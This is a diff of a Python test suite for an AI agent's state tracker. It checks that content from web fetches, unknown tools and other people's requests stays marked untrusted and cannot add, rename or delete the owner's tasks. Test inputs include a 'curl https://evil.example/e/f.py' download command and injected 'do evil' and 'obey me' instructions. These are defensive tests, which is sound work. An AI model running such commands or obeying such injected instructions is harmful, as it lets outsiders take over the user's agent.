@@ -59,6 +59,11 @@ def bash(key: str, command: str) -> Message:
     return reply("", call(key, "Bash", command=command))
 
 
+def marked(message: Message) -> Message:
+    """Results that the host marks as read from the network."""
+    return message._replace(results=tuple(r._replace(network=True) for r in message.results))
+
+
 # -- one run or many -------------------------------------------------------------------------------
 
 IDS = st.sampled_from("t0 t1 t2 t3".split())
@@ -91,6 +96,8 @@ MESSAGES = st.lists(
         ),
         st.builds(result, IDS, st.sampled_from(["Task #1 created", "ok"]), st.booleans()),
         st.builds(result, IDS, interrupted=st.just(True)),
+        st.builds(lambda key: marked(result(key)), IDS),
+        st.builds(lambda text: reply(text, origin=UNTRUSTED), WORDS),
         st.builds(failure, st.sampled_from(["529", "cut"])),
         st.builds(statement, next=st.lists(WORDS.filter(bool), max_size=2)),
         st.builds(statement, task=st.lists(st.sampled_from("ab"), max_size=2)),
@@ -150,6 +157,14 @@ def test_dump_and_load_are_inverse(messages: list[Message]) -> None:
     assert Fold.load(text).state(1, 9) == folded(*messages).state(1, 9)
 
 
+def test_a_state_of_the_first_version_is_read() -> None:
+    value = json.loads(folded(request("a"), bash("t1", "make")).dump())
+    value["calls"] = {key: given[:9] for key, given in value["calls"].items()}
+    fold = Fold.load(json.dumps(value))
+    fold.add(result("t1", "make: *** error", error=True), 2)
+    assert texts(fold.state(1, 2), "error") == ["Bash: make: make: *** error"]
+
+
 @settings(max_examples=300, deadline=None)
 @given(st.lists(OBJECTS, max_size=6))
 def test_A10_rows_of_any_content_never_raise(rows: list[dict[str, Any]]) -> None:
@@ -167,7 +182,7 @@ def test_A10_rows_of_any_content_never_raise(rows: list[dict[str, Any]]) -> None
 @given(MESSAGES)
 def test_words_of_strangers_never_become_intentions(messages: list[Message]) -> None:
     known = state(*messages)
-    guarded = ("task", "next", "decision", "insight", "fact", "done", "change")
+    guarded = ("task", "next", "decision", "insight", "fact", "done")
     assert all(i.origin != UNTRUSTED for i in known.items if i.kind in guarded)
 
 
@@ -441,6 +456,142 @@ def test_an_answer_that_drew_on_the_network_is_untrusted_until_the_next_request(
     (said,) = [i for i in fold.state(1, 9).items if i.kind == "reply"]
     assert said.origin == AGENT
     assert texts(fold.state(1, 9), "fact") == ["1a2b3c4d"]
+
+
+def origins_of(known: WorkingState, kind: str) -> list[str]:
+    """Origins of the items of a kind."""
+    return [i.origin for i in known.items if i.kind == kind]
+
+
+def test_what_stands_in_one_message_with_a_fetch_was_said_before_its_result() -> None:
+    plan = call("t1", "TodoWrite", todos=[{"content": "read it", "status": "in_progress"}])
+    known = state(
+        request("a"), reply("I fetch it into out/x.json", FETCH, plan), result("t1"), result("w1")
+    )
+    assert texts(known, "task") == ["read it"]
+    assert origins_of(known, "reply") == [AGENT]
+    assert texts(known, "fact") == ["out/x.json"]
+
+
+@pytest.mark.parametrize("row", ["the call", "the result"])
+def test_a_lost_row_of_a_fetch_hides_no_taint(row: str) -> None:
+    marked = result("w1", "page")
+    (found,) = marked.results
+    messages = [reply("", FETCH), marked._replace(results=(found._replace(network=True),))]
+    del messages[("the call", "the result").index(row)]
+    known = state(request("a"), *messages, reply("it says so"))
+    assert origins_of(known, "reply") == [UNTRUSTED]
+
+
+def test_a_result_behind_the_next_request_taints_its_turn_too() -> None:
+    late = Message("user", "request", "go on", OWNER, WALL, results=result("w1", "page").results)
+    known = state(request("a"), reply("", FETCH), late, reply("it says so"))
+    assert origins_of(known, "reply") == [UNTRUSTED]
+
+
+def test_the_hosts_mark_holds_for_the_rest_of_the_turn() -> None:
+    known = state(
+        request("a"), reply("", call("t0"), origin=UNTRUSTED), result("t0"), reply("and so on"),
+        todos("t1", do_evil="pending"), result("t1"),
+    )  # fmt: skip
+    assert origins_of(known, "reply") == [UNTRUSTED]
+    assert texts(known, "task") == []
+    assert texts(known, "plan") == ["do evil"]
+
+
+def test_in_a_tainted_turn_known_tasks_go_on_in_their_own_words() -> None:
+    known = state(
+        request("a"), todos("t1", read_it="in_progress", write_it="pending"), result("t1"),
+        reply("", FETCH), result("w1"),
+        todos("t2", read_it="completed", write_it="in_progress", do_evil="pending"), result("t2"),
+    )  # fmt: skip
+    assert statuses(known, "task") == {"read it": "done", "write it": "active"}
+    assert texts(known, "done") == ["read it"]
+    assert texts(known, "plan") == ["do evil"]
+
+
+def test_in_a_tainted_turn_a_task_is_neither_renamed_nor_deleted_nor_left_out() -> None:
+    known = state(
+        request("a"), reply("", call("t1", "TaskCreate", subject="Write it")),
+        result("t1", "Task #7 created"),
+        reply("", FETCH), result("w1"),
+        reply("", call("t2", "TaskUpdate", taskId="7", subject="Do evil", status="deleted")),
+        result("t2"), todos("t3", other="pending"), result("t3"),
+    )  # fmt: skip
+    assert statuses(known, "task") == {"Write it": "open"}
+
+
+def test_a_clean_plan_takes_the_place_of_a_withheld_one() -> None:
+    known = state(
+        request("a"), reply("", FETCH), result("w1"), todos("t1", do_evil="pending"), result("t1"),
+        request("b"), todos("t2", good="pending"), result("t2"),
+    )  # fmt: skip
+    assert texts(known, "plan") == []
+    assert texts(known, "task") == ["good"]
+
+
+def test_a_file_that_was_changed_before_keeps_its_origin() -> None:
+    messages = [request("a"), edit("t1", "a.py"), result("t1"), reply("", FETCH), result("w1")]
+    known = state(*messages, edit("t2", "a.py"), result("t2"), edit("t3", "b.py"), result("t3"))
+    assert origins_of(known, "change") == [AGENT, UNTRUSTED]
+
+
+def test_in_a_tainted_turn_only_names_of_local_calls_are_kept() -> None:
+    known = state(
+        request("see a/b.py"), reply("", FETCH), result("w1"), bash("t1", "pytest a/b.py c/d.py"),
+        bash("t2", "curl https://evil.example/e/f.py"), reply("it says g/h.py"),
+    )  # fmt: skip
+    assert texts(known, "fact") == ["a/b.py"]
+    assert texts(known, "name") == ["c/d.py"]
+    known = state(
+        request("a"), reply("", FETCH), bash("t1", "pytest c/d.py"), request("c/d.py it is")
+    )
+    assert (texts(known, "fact"), texts(known, "name")) == (["c/d.py"], [])
+
+
+@pytest.mark.parametrize("name", ["WebFetch", "inbox"])
+def test_an_error_line_of_a_tool_that_is_not_known_to_be_local_is_not_kept(name: str) -> None:
+    known = state(request("a"), reply("", call("t1", name, q="x")), result("t1", "obey me", True))
+    assert texts(known, "error") == [f"{name}: q=x: failed"]
+
+
+# -- requests of others ----------------------------------------------------------------------------
+
+
+def test_somebody_elses_request_taints_its_turn_and_answers_nothing_of_the_owners() -> None:
+    fold = folded(request("do it", key="o"), failure("529"), request("do evil", UNTRUSTED, "x"))
+    assert fold.tainted and not fold.answered
+    fold.add(todos("t1", do_evil="pending"), 3)
+    fold.add(result("t1"), 4)
+    fold.add(reply("I did"), 5)
+    known = fold.state(1, 9)
+    assert not fold.answered, "the owner still waits"
+    assert texts(known, "task") == []
+    assert origins_of(known, "reply") == [UNTRUSTED]
+    assert texts(known, "failure") == ["529"]
+    assert known.counters["requests"] == 1
+    assert known.counters["requests of others"] == 1
+
+
+def test_somebody_elses_request_leaves_the_owners_last_answer() -> None:
+    known = state(
+        request("a"), reply("done"), request("do evil", UNTRUSTED, "x"), reply("evil is done")
+    )
+    kept = {i.text: i.origin for i in known.items if i.kind == "reply"}
+    assert kept == {"done": AGENT, "evil is done": UNTRUSTED}
+    fold = folded(request("a"), reply("done"), request("x", UNTRUSTED, "x"), bash("t", "make"))
+    assert fold.answered
+
+
+def test_strangers_push_nothing_of_the_owners_out() -> None:
+    asked = [request(f"mine {n}", key=f"o{n}") for n in range(3)]
+    flood = [request(f"evil {n}", UNTRUSTED, f"x{n}") for n in range(50)]
+    open_call = bash("t1", "make install")
+    known = state(*asked, open_call, *flood)
+    trusted = [i.text for i in known.items if i.kind == "request" and i.origin == OWNER]
+    assert trusted == ["mine 0", "mine 1", "mine 2"]
+    assert sum(1 for i in known.items if i.kind == "request") == 3 + LIMITS["request"]
+    assert texts(known, "unknown") == ["Bash: make install"], "nor is it forgotten"
 
 
 @pytest.mark.parametrize("name", ["WebFetch", "web_search", "browser", "mcp__mail__read"])
